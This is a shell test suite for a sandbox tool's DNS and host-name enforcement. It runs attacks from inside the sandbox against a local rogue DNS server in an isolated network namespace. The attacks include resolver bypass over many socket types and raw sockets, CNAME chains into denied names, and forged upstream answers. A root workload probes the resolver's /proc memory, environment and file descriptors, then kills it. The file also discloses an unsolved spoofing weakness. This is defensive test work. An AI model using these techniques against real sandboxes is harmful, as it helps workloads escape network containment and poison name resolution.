#!/bin/bash
# SPDX-License-Identifier: MIT
# Attacks on host-name enforcement (docs/network.md) from inside a sandbox:
# reaching a DNS server other than sbx's resolver (every socket form,
# protocol and family, raw sockets: tests/security/dnsatk.c), CNAME chains
# into denied names, name spellings, pins used beyond their ports and
# protocol, another sandbox's resolver asked directly, forged upstream
# answers, a root workload against its resolver, a slot reused after its
# manager was SIGKILLed, IPv6 DNS in a private namespace. Two cases SKIP
# with the open problem they show (other_sandbox_asks_my_resolver,
# forged_upstream_answer).
#
# The whole file runs in a network namespace of its own (unshare -n), like
# tests/integration/test_dns.sh: dnsmasq at 127.0.0.53:5300 is every
# profile's upstream; a "rogue" DNS server (dnsmasq, port 53 of 198.51.100.53
# and 2001:db8::53) answers every name under leak.test with 198.51.100.99 and
# logs what it was asked: a query in its log is a query that got past sbx.
if [ -z "${SBX_DNS_NETNS:-}" ] && [ -z "${SBX_TEST_SKIP:-}" ]; then
	if unshare -n true 2>/dev/null; then
		SBX_DNS_NETNS=1 exec unshare -n "$0" "$@"
	fi
	SBX_TEST_SKIP="cannot make a network namespace (unshare -n)"
fi
. "$(dirname "$0")/../integration/lib.sh"

OUTPUT=$(realpath -m "${OUTPUT:-$PWD/build}")
SRC=$(cd "$(dirname "$0")" && pwd)
ATK=$OUTPUT/tests/security/dnsatk

[ -z "$SBX_TEST_SKIP" ] && ! command -v dnsmasq >/dev/null && SBX_TEST_SKIP="no dnsmasq (make deps installs dnsmasq-base)"
[ -z "$SBX_TEST_SKIP" ] && ! command -v dig >/dev/null && SBX_TEST_SKIP="no dig (make deps installs bind9-dnsutils)"
[ -z "$SBX_TEST_SKIP" ] && ! command -v python3 >/dev/null && SBX_TEST_SKIP="no python3 (the UDP-Lite listener)"

UP=127.0.0.53
UPPORT=5300
ROGUE=198.51.100.53
ROGUE6=2001:db8::53
RLOG=$T_TMP/rogue.log
LLOG=$T_TMP/udplite.log

atk_setup()
{
	local i
	mkdir -p "$(dirname "$ATK")" || return 1
	[ "$ATK" -nt "$SRC/dnsatk.c" ] ||
		gcc -std=gnu11 -O2 -Wall -Wextra -o "$ATK" "$SRC/dnsatk.c" || return 1
	ip link set lo up || return 1
	for i in 10 11 20 53 99; do
		ip addr add 198.51.100.$i/32 dev lo || return 1
	done
	ip -6 addr add "$ROGUE6/128" dev lo nodad || return 1
	bg dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --port="$UPPORT" \
		--listen-address="$UP" --bind-interfaces --no-resolv --no-hosts --local-ttl=30 \
		--pid-file="$T_TMP/up.pid" \
		--host-record=api.test,198.51.100.10 \
		--host-record=other.test,198.51.100.11 \
		--address=/wild.test/198.51.100.20 \
		--host-record=x.evil.test,198.51.100.11 \
		--cname=hop.test,x.evil.test \
		--host-record=x.bad.ok.test,198.51.100.11 \
		--cname=in.ok.test,x.bad.ok.test || return 1
	bg dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --port=53 \
		--listen-address="$ROGUE" --listen-address="$ROGUE6" --bind-interfaces --no-resolv \
		--no-hosts --log-queries --log-facility="$RLOG" --pid-file="$T_TMP/rogue.pid" \
		--address=/leak.test/198.51.100.99 || return 1
	# UDP-Lite port 53 of the rogue address: dnsmasq speaks no UDP-Lite
	bg python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.bind((sys.argv[1], 53))
while True:
    d, a = s.recvfrom(4096)
    open(sys.argv[2], "a").write("udplite %d bytes from %s\n" % (len(d), a[0]))
' "$ROGUE" "$LLOG" || return 1
	for i in $(seq 100); do
		dig +short +time=1 +tries=1 -p "$UPPORT" @"$UP" api.test 2>/dev/null | grep -q 198.51.100.10 &&
			dig +short +time=1 +tries=1 @"$ROGUE" x.leak.test 2>/dev/null | grep -q 198.51.100.99 && break
		sleep 0.05
	done
	dig +short -p "$UPPORT" @"$UP" api.test | grep -q 198.51.100.10 || { echo "dnsmasq (upstream) does not answer"; return 1; }
	dig +short @"$ROGUE" x.leak.test | grep -q 198.51.100.99 || { echo "dnsmasq (rogue) does not answer"; return 1; }
	start_listener PT 198.51.100.10 tcp || return 1	# api.test
	start_listener PO 198.51.100.11 tcp || return 1	# other.test
	start_listener PW 198.51.100.20 tcp || return 1	# *.wild.test
	start_listener PU 198.51.100.10 udp || return 1	# api.test, UDP
}

# pol FILE NETWORK-LINES [PROFILE-KEYS]: profile "t", host provider
pol() { dns_attack_policy "$@"; }

P=$T_TMP/p.toml
names() { printf '"api.test:%s/tcp", "*.wild.test:%s"' "$PT" "$PW"; }

# the rogue server saw nothing since the last mark
rogue_mark() { : >"$RLOG"; : >"$LLOG"; }
rogue_clean()
{
	grep -q 'query.*leak.test' "$RLOG" && fail "$1: a query reached the rogue server: $(grep 'query.*leak' "$RLOG" | head -3)"
	[ -s "$LLOG" ] && fail "$1: a UDP-Lite datagram reached the rogue server's port 53: $(head -1 "$LLOG")"
	return 0
}

# atk LABEL FORM ADDR PORT NAME: a dnsatk line of the workload script
atk() { printf 'printf "%%s " %s; %s %s %s %s %s; ' "$1" "$ATK" "$2" "$3" "$4" "$5"; }

# not_rogue NAME LABEL: the probe did not get the rogue server's answer
not_rogue()
{
	local got
	got=$(awk -v l="$2" '$1 == l { $1 = ""; print; exit }' "$T_TMP/$1.out")
	[ -n "$got" ] || fail "$2: no output ($(tail -c 300 "$T_TMP/$1.err"))"
	case "$got" in
	*198.51.100.99*) fail "$2: answered by the rogue server: $got" ;;
	esac
}

FORMS4="udp dual connect conn2 pktinfo mmsg tcp tfo udplite udplite-to"

# Every way of sending a query to port 53 of another server, IPv4, mapped,
# IPv4-compatible and IPv6, ends at sbx's resolver (REFUSED: leak.test is no
# allowed name) or fails; the rogue server sees nothing.
attack_forms()
{
	local f s=""
	for f in $FORMS4; do s+=$(atk "$f" "$f" "$ROGUE" 53 x.leak.test); done
	s+=$(atk mapped udp "::ffff:$ROGUE" 53 x.leak.test)
	s+=$(atk mappedconn connect "::ffff:$ROGUE" 53 x.leak.test)
	s+=$(atk mappedtcp tcp "::ffff:$ROGUE" 53 x.leak.test)
	s+=$(atk mappedlite udplite "::ffff:$ROGUE" 53 x.leak.test)
	s+=$(atk compat udp "::$ROGUE" 53 x.leak.test)
	s+=$(atk compattcp tcp "::$ROGUE" 53 x.leak.test)
	s+=$(atk v6 udp "$ROGUE6" 53 x.leak.test)
	s+=$(atk v6tcp tcp "$ROGUE6" 53 x.leak.test)
	s+=$(atk v6tfo tfo "$ROGUE6" 53 x.leak.test)
	s+=$(atk v6conn connect "$ROGUE6" 53 x.leak.test)
	s+=$(atk v6lite udplite "$ROGUE6" 53 x.leak.test)
	rogue_mark
	sbx_run "$1" -P "$P" --profile t -- sh -c "$s true"
	for f in $FORMS4 mapped mappedconn mappedtcp mappedlite compat compattcp v6 v6tcp v6tfo v6conn v6lite; do
		not_rogue "$1" "$f"
	done
	expect "$1" udp ok
	expect "$1" tcp ok
	rogue_clean "$1"
	eq "refused by sbx" "$(ja "$1" '[.[] | select(.event == "dns.denied" and .name == "x.leak.test")] | length > 0')" true
}

case_other_server_unreachable_allow_mode()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	attack_forms a
}

# docs/network.md: port 53 goes to sbx's resolver "even [to] one an address
# entry allows"
case_other_server_unreachable_address_allowed()
{
	pol "$P" "mode = \"allow\"
allow = [$(names), \"$ROGUE\", \"$ROGUE6\"]"
	attack_forms b
}

case_other_server_unreachable_deny_mode()
{
	pol "$P" "mode = \"deny\"
deny = [\"*.leak.test\"]"
	attack_forms d
}

# DNS on other ports to an address no entry allows: EPERM.
case_other_ports_refused()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	rogue_mark
	sbx_run o -P "$P" --profile t -- sh -c "$(atk p5353 udp $ROGUE 5353 x.leak.test)$(atk p853 tcp $ROGUE 853 x.leak.test)$(atk p443 tcp $ROGUE 443 x.leak.test)$(atk p443v6 tcp $ROGUE6 443 x.leak.test)true"
	expect o p5353 EPERM
	expect o p853 EPERM
	expect o p443 EPERM
	expect o p443v6 EPERM
}

# raw_sockets = true (root keeps CAP_NET_RAW): a UDP datagram written by
# hand on a SOCK_RAW socket passes no sockaddr hook; the egress safety net
# must judge it with its port, and port 53 belongs to sbx's resolver.
case_raw_socket_dns_refused()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]
raw_sockets = true" 'user = "root"'
	rogue_mark
	sbx_run r -P "$P" --profile t -- sh -c "$(atk raw raw $ROGUE 53 x.leak.test)$(atk rawapi raw 198.51.100.10 53 api.test)true"
	not_rogue r raw
	expect r raw EPERM
	expect r rawapi EPERM
	rogue_clean raw
	eq "net.packet" "$(ja r '[.[] | select(.event == "net.packet" and .addr == "'$ROGUE'" and .port == 53)][0].rule')" dns
}

# ... and to a port an address entry does not allow, raw UDP or TCP is judged
# like a connect.
case_raw_socket_udp_judged_with_port()
{
	pol "$P" "mode = \"allow\"
allow = [$(names), \"$ROGUE:5353/udp\"]
raw_sockets = true" 'user = "root"'
	sbx_run r -P "$P" --profile t -- sh -c "$(atk notallowed raw 198.51.100.11 9999 x)$(atk allowed raw $ROGUE 5353 x.leak.test)true"
	expect r notallowed EPERM
	# allowed address and port: the datagram leaves (nobody answers there)
	expect r allowed timeout
}

# A CNAME chain through a denied name: the answer is the denied name's, under
# another name. Deny mode, deny = ["*.evil.test"]: hop.test -> x.evil.test.
# Allow mode, allow "*.ok.test", deny "*.bad.ok.test": in.ok.test ->
# x.bad.ok.test must not pin x.bad.ok.test's address under "*.ok.test".
case_cname_into_denied_name()
{
	pol "$P" 'mode = "deny"
deny = ["*.evil.test"]'
	sbx_run d -P "$P" --profile t -- sh -c "echo direct \$(dig +time=2 +tries=1 x.evil.test | awk '/status:/{print \$6}'); echo hop \$(dig +time=2 +tries=1 hop.test | awk '/status:/{print \$6}'); echo hopaddr \$(dig +short +time=2 +tries=1 hop.test | tail -1)"
	expect d direct REFUSED,
	expect d hop REFUSED,
	awk '$1 == "hopaddr" { print $2 }' "$T_TMP/d.out" | grep -q 198.51.100.11 &&
		fail "hop.test answered with x.evil.test's address"
	eq "dns.denied" "$(ja d '[.[] | select(.event == "dns.denied" and .name == "hop.test")][0].reason')" deny_rule
	pol "$P" "mode = \"allow\"
allow = [\"*.ok.test:$PO/tcp\"]
deny = [\"*.bad.ok.test\"]"
	sbx_run a -P "$P" --profile t -- sh -c "echo in \$(dig +time=2 +tries=1 in.ok.test | awk '/status:/{print \$6}'); $(probes "c connect 198.51.100.11 $PO")"
	expect a in REFUSED,
	expect a c EPERM
}

# Names are compared without case and with or without the final dot; a name
# the policy does not allow opens nothing, whatever its spelling.
case_name_spellings()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	sbx_run n -P "$P" --profile t -- sh -c "echo up \$(dig +short +time=2 +tries=1 ApI.TeSt.); echo other \$(dig +time=2 +tries=1 OTHER.test. | awk '/status:/{print \$6}'); echo apex \$(dig +time=2 +tries=1 WILD.TEST | awk '/status:/{print \$6}'); $(probes "c connect 198.51.100.10 $PT" "o connect 198.51.100.11 $PO")"
	expect n up 198.51.100.10
	expect n other REFUSED,
	expect n apex REFUSED,
	expect n c ok
	expect n o EPERM
}

# A pin carries its entry's ports and protocol: api.test is "/tcp" on $PT.
# UDP, UDP-Lite, another TCP port and ICMP to the pinned address are refused.
case_pin_beyond_ports_and_proto()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	sbx_run p -P "$P" --profile t -- sh -c "dig +short +time=2 +tries=1 api.test >/dev/null; $(probes "tcp connect 198.51.100.10 $PT" "udp connect 198.51.100.10 $PU udp" "udpsame sendto 198.51.100.10 $PT 1 8 udp" "lite sendto 198.51.100.10 $PT 1 8 udplite" "port connect 198.51.100.10 $PO" "ping ping 198.51.100.10")"
	expect p tcp ok
	expect p udp EPERM
	expect p udpsame EPERM
	expect p lite EPERM
	expect p port EPERM
	awk '$1 == "ping" { print $2 }' "$T_TMP/p.out" | grep -qx ok && fail "ping to a TCP-only pin got a reply"
	return 0
}

# resolver_port RUN-PID: the UDP port of the sbx-dns child of sbx run RUN-PID
resolver_port()
{
	local pid=$1 rpid i
	for i in $(seq 100); do
		rpid=$(pgrep -P "$pid" -x sbx-dns) && break
		sleep 0.05
	done
	[ -n "$rpid" ] || return 1
	ss -lunpH 2>/dev/null | awk -v p="pid=$rpid," 'index($0, p) && $4 ~ /^127\.0\.0\.1:/ { sub(/.*:/, "", $4); print $4; exit }'
}

wait_for_file()
{
	local i
	for i in $(seq 600); do [ -e "$1" ] && return 0; sleep 0.05; done
	return 1
}

# Another sandbox (deny mode, no names: it reaches 127.0.0.1 on any port) and
# a host process ask sandbox A's resolver for A's allowed name directly. A
# never looked it up itself: no pin may open api.test's address for A.
case_other_sandbox_asks_my_resolver()
{
	local run port
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	rm -f "$T_TMP/go"
	"$SBX" run --result "$T_TMP/a.result" --audit "$T_TMP/a.audit" -P "$P" --profile t -- sh -c \
		"while [ ! -e $T_TMP/go ]; do sleep 0.05; done; $(probes "c connect 198.51.100.10 $PT")" \
		>"$T_TMP/a.out" 2>"$T_TMP/a.err" &
	run=$!
	port=$(resolver_port $run)
	[ -n "$port" ] || { touch "$T_TMP/go"; wait $run; fail "no resolver port for sbx run $run"; }
	write_policy "$T_TMP/x.toml" t "" 'mode = "deny"
deny = ["192.0.2.1"]'
	sbx_run x -P "$T_TMP/x.toml" --profile t -- sh -c "echo x \$(dig +short +time=2 +tries=1 -p $port @127.0.0.1 api.test)"
	touch "$T_TMP/go"
	wait $run
	RC=$?
	# sbx_dns_ports: another sandbox's resolver is refused (EPERM, rule
	# dns), so nothing was asked and nothing pinned for a
	grep -q '^x 198.51.100.10' "$T_TMP/x.out" && fail "the other sandbox was answered: $(cat "$T_TMP/x.out")"
	eq "refused as a resolver of another sandbox" \
		"$(ja x "[.[] | select((.event == \"net.send\" or .event == \"net.connect\") and .port == $port and .verdict == \"deny\" and .rule == \"dns\")] | length > 0")" true
	expect a c EPERM
}

# Forged upstream answers. The resolver sends every query from one UDP socket
# (a fixed port, seen in /proc/net/udp by anything in the host's network
# namespace) with a random 16-bit id. Sandbox X (deny mode, root,
# raw_sockets = true) sends an answer for every id, from the upstream's
# address and port, while sandbox Y's lookup of api.test waits on an upstream
# that does not answer: a forged address pinned for Y opens a host Y's policy
# never named.
case_forged_upstream_answer()
{
	local run port rpid i
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	sed -i "s/$UP:$UPPORT/127.0.0.54:$UPPORT/" "$P"
	rm -f "$T_TMP/go"
	"$SBX" run --result "$T_TMP/y.result" --audit "$T_TMP/y.audit" -P "$P" --profile t -- sh -c \
		"while [ ! -e $T_TMP/go ]; do sleep 0.05; done; echo ans \$(dig +short +time=8 +tries=1 api.test); $(probes "c connect 198.51.100.11 $PT")" \
		>"$T_TMP/y.out" 2>"$T_TMP/y.err" &
	run=$!
	for i in $(seq 100); do rpid=$(pgrep -P $run -x sbx-dns) && break; sleep 0.05; done
	for i in $(seq 100); do
		port=$(ss -uanpH 2>/dev/null | awk -v p="pid=$rpid," 'index($0, p) && $5 == "127.0.0.54:'$UPPORT'" { sub(/.*:/, "", $4); print $4; exit }')
		[ -n "$port" ] && break
		sleep 0.05
	done
	[ -n "$port" ] || { touch "$T_TMP/go"; wait $run; fail "no upstream socket of sbx-dns $rpid: $(ss -uanpH)"; }
	write_policy "$T_TMP/x.toml" t 'user = "root"' 'mode = "deny"
deny = ["192.0.2.1"]
raw_sockets = true'
	touch "$T_TMP/go"
	sbx_run x -P "$T_TMP/x.toml" --profile t -- "$ATK" spoof 127.0.0.1 "$port" api.test 127.0.0.54 "$UPPORT" 198.51.100.11 4
	wait $run
	RC=$?
	cat "$T_TMP/x.out" "$T_TMP/y.out"
	if grep -q '^ans 198.51.100.11' "$T_TMP/y.out"; then
		skip "open problem: a forged upstream answer was accepted (one upstream socket," \
			"its port visible, 16-bit ids): a sandbox with raw_sockets = true (or any" \
			"host process with CAP_NET_RAW) can pin an address of its choice for another" \
			"sandbox's allowed name ($(tr '\n' ' ' <"$T_TMP/y.out"))"
	fi
	expect y c EPERM
}

# Hostile messages at the resolver (tests/security/dnsfuzz.py: malformed
# queries, reflected replies, random bytes, pipelined and cut TCP frames): it
# must neither die nor stop answering.
case_resolver_survives_hostile_messages()
{
	[ -x /usr/bin/python3 ] || skip "no /usr/bin/python3 (the sandbox's user cannot use another)"
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	sbx_run f -P "$P" --profile t -- sh -c "/usr/bin/python3 $SRC/dnsfuzz.py; echo after \$(dig +short +time=2 +tries=1 api.test)"
	grep -q '^sent ' "$T_TMP/f.out" || fail "dnsfuzz.py did not run: $(tail -c 300 "$T_TMP/f.err")"
	expect f after 198.51.100.10
	eq "no death" "$(ja f '[.[] | select(.event == "dns.resolver" and .state != "started")] | length')" 0
}

# A root workload (host provider, user root) against its own resolver: it
# sees it (same uid, shared /proc) but cannot trace it or take its file
# descriptors (no CAP_SYS_PTRACE, and the resolver keeps CAP_BPF, which the
# workload lacks), nor signal it where Landlock scopes signals (ABI 6). Where
# it can kill it, that fails closed: the pins go, and a connect that needed
# a name fails until the name is looked up again.
case_root_workload_vs_resolver()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]" 'user = "root"'
	sbx_run k -P "$P" --profile t -- sh -c "dig +short +time=2 +tries=1 api.test >/dev/null
$(probes "before connect 198.51.100.10 $PT")
r=\$(pgrep -x sbx-dns | head -1)
echo found \${r:+yes}
readlink /proc/\$r/fd/3 >/dev/null 2>&1 && echo fds readable || echo fds refused
(exec 3</proc/\$r/mem) 2>/dev/null && echo mem readable || echo mem refused
(exec 3</proc/\$r/environ) 2>/dev/null && echo environ readable || echo environ refused
kill -STOP \$r 2>/dev/null && echo stop ok || echo stop EPERM
kill -CONT \$r 2>/dev/null
kill -KILL \$r 2>/dev/null && echo killed ok || echo killed EPERM
sleep 0.5
$(probes "during connect 198.51.100.10 $PT")
for i in \$(seq 50); do dig +short +time=1 +tries=1 api.test | grep -q . && break; sleep 0.1; done
$(probes "after connect 198.51.100.10 $PT")"
	expect k before ok
	expect k found yes
	expect k fds refused
	expect k mem refused
	expect k environ refused
	expect k after ok
	if grep -q '^killed ok' "$T_TMP/k.out"; then
		expect k during EPERM
		eq "died" "$(ja k '[.[] | select(.event == "dns.resolver" and .state == "died")] | length')" 1
	else
		expect k stop EPERM
		expect k during ok
		eq "not died" "$(ja k '[.[] | select(.event == "dns.resolver" and .state == "died")] | length')" 0
	fi
}

# A resolver that sbx gave up on (killed 6 times within 10 s) leaves the
# sandbox's port-53 traffic with nowhere to go: it must be refused (EPERM),
# not sent to its old port, which anyone may bind by then and read the
# sandbox's queries (names the policy refuses) from.
case_gave_up_port_not_reusable()
{
	local run i rpid port k
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	rm -f "$T_TMP/go"
	"$SBX" run --result "$T_TMP/g.result" --audit "$T_TMP/g.audit" -P "$P" --profile t -- sh -c \
		"while [ ! -e $T_TMP/go ]; do sleep 0.05; done; $(atk q udp 8.8.8.8 53 secret.leak.test)$(atk qt tcp 8.8.8.8 53 secret.leak.test)true" \
		>"$T_TMP/g.out" 2>"$T_TMP/g.err" &
	run=$!
	port=$(resolver_port $run)
	[ -n "$port" ] || { touch "$T_TMP/go"; wait $run; fail "no resolver port"; }
	for k in 1 2 3 4 5 6; do
		rpid=""
		for i in $(seq 100); do rpid=$(pgrep -P $run -x sbx-dns) && break; sleep 0.05; done
		[ -n "$rpid" ] || break
		kill -KILL "$rpid"
		for i in $(seq 100); do [ "$(pgrep -P $run -x sbx-dns)" != "$rpid" ] && break; sleep 0.02; done
	done
	for i in $(seq 100); do grep -q '"state":"gave_up"' "$T_TMP/g.audit" 2>/dev/null && break; sleep 0.05; done
	grep -q '"state":"gave_up"' "$T_TMP/g.audit" || { touch "$T_TMP/go"; wait $run; fail "sbx did not give up on the resolver"; }
	# a host process takes the old port
	"$NETTOOL" listen 127.0.0.1 "$port" udp >"$T_TMP/thief.out" 2>&1 &
	local thief=$!
	sleep 0.3
	touch "$T_TMP/go"
	wait $run
	RC=$?
	kill $thief 2>/dev/null
	wait $thief 2>/dev/null
	cat "$T_TMP/g.out" "$T_TMP/thief.out"
	expect g q EPERM
	expect g qt EPERM
	eq "refused as dns" "$(ja g '[.[] | select((.event == "net.send" or .event == "net.connect") and .verdict == "deny" and .rule == "dns" and .port == 53)] | length')" 2
}

# sbx run SIGKILLed while its sandbox holds pins and the redirect: the next
# sandbox of the slot, without names, inherits neither.
case_slot_reuse_after_sigkill()
{
	local run i
	pol "$P" "mode = \"allow\"
allow = [$(names)]"
	rm -f "$T_TMP/looked"
	"$SBX" run -P "$P" --profile t -- sh -c "dig +short +time=2 +tries=1 api.test >/dev/null; touch $T_TMP/looked; sleep 60" \
		>"$T_TMP/s.out" 2>"$T_TMP/s.err" &
	run=$!
	wait_for_file "$T_TMP/looked" || { kill $run; fail "the first sandbox did not look up"; }
	kill -KILL $run
	wait $run 2>/dev/null
	# the watchdog ends the orphaned sandbox; wait for its workload to go
	for i in $(seq 200); do pgrep -f "sleep 60" >/dev/null || break; sleep 0.1; done
	write_policy "$T_TMP/n.toml" t "" "mode = \"allow\"
allow = [\"$UP:$UPPORT\"]"
	sbx_run n -P "$T_TMP/n.toml" --profile t -- sh -c "$(probes "c connect 198.51.100.10 $PT"); echo dns \$(dig +time=1 +tries=1 @$UP -p $UPPORT api.test | awk '/status:/{print \$6}')"
	expect n c EPERM
	expect n dns NOERROR,
}

# namespace = "private" (process provider, veth, IPv4 only): an IPv6 port-53
# destination is refused, a dual-stack socket's mapped address goes to the
# resolver.
case_private_netns_ipv6_dns()
{
	pol "$P" "mode = \"allow\"
allow = [$(names)]
namespace = \"private\""
	sed -i 's/provider = "host"/provider = "process"/' "$P"
	rogue_mark
	sbx_run v -P "$P" --profile t -- sh -c "$(atk v6 udp $ROGUE6 53 x.leak.test)$(atk v6tcp tcp $ROGUE6 53 x.leak.test)$(atk dual dual $ROGUE 53 api.test)$(atk v4 udp $ROGUE 53 x.leak.test)true"
	expect v v6 EPERM
	expect v v6tcp EPERM
	expect v dual ok
	not_rogue v dual
	rogue_clean private
}

setup atk_setup
run_case other_server_unreachable_allow_mode case_other_server_unreachable_allow_mode
run_case other_server_unreachable_address_allowed case_other_server_unreachable_address_allowed
run_case other_server_unreachable_deny_mode case_other_server_unreachable_deny_mode
run_case other_ports_refused case_other_ports_refused
run_case raw_socket_dns_refused case_raw_socket_dns_refused
run_case raw_socket_udp_judged_with_port case_raw_socket_udp_judged_with_port
run_case name_spellings case_name_spellings
run_case cname_into_denied_name case_cname_into_denied_name
run_case pin_beyond_ports_and_proto case_pin_beyond_ports_and_proto
run_case other_sandbox_asks_my_resolver case_other_sandbox_asks_my_resolver
run_case forged_upstream_answer case_forged_upstream_answer
run_case resolver_survives_hostile_messages case_resolver_survives_hostile_messages
run_case root_workload_vs_resolver case_root_workload_vs_resolver
run_case gave_up_port_not_reusable case_gave_up_port_not_reusable
run_case slot_reuse_after_sigkill case_slot_reuse_after_sigkill
run_case private_netns_ipv6_dns case_private_netns_ipv6_dns
finish
